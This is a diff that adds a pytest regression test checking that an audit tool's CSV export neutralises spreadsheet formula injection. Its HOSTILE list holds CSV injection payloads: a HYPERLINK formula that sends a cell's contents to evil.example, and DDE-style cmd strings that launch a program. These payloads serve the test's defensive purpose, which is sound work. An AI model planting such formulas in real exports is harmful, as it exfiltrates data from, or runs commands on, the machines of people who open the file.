@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import datetime as dt
 import io
 import json
@@ -248,3 +249,32 @@ def test_output_file_and_format_must_agree(audit_dir, tmp_path, monkeypatch):
     )
     named = export("-o", "./json")
     assert named.exit_code == 0 and (tmp_path / "json").read_text().startswith('{"')
+
+
+# OWASP "CSV Injection": a cell starting with =, +, -, @, tab or carriage return is a formula to a
+# spreadsheet. Every one of them, from the places a tenant controls (job names, user names, messages).
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_csv_export_defuses_every_formula(tmp_path, hmac_key_file):
+    """Issue 18 item 7: `audit export --format csv` wrote TrainJob and user names raw."""
+    root = tmp_path / "audit"
+    with AuditLog.open(root, chain="c", signer=HmacSigner(HMAC_SECRET)) as log:
+        for hostile in HOSTILE:
+            d = dataclasses.replace(decision(hostile, "nlp-team", "nlp-team", (QUOTA,)), message=hostile)
+            log.append(record_from_decision(d, request(d, user=hostile), "validate"))
+    out = tmp_path / "export.csv"
+    result = CliRunner().invoke(
+        cli, ["audit", "export", str(root), "--key", str(hmac_key_file), "-o", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    text = out.read_bytes().decode("utf-8")  # as written: a CR inside a cell stays a CR
+    rows = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["stage"] == "validate"]
+    assert [r["name"] for r in rows] == ["'" + h for h in HOSTILE]
+    assert [r["user"] for r in rows] == ["'" + h for h in HOSTILE]
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    assert [r["message"] for r in rows] == ["'" + h for h in HOSTILE]
+    assert all(r["seq"].isdigit() for r in rows)  # numbers stay numbers
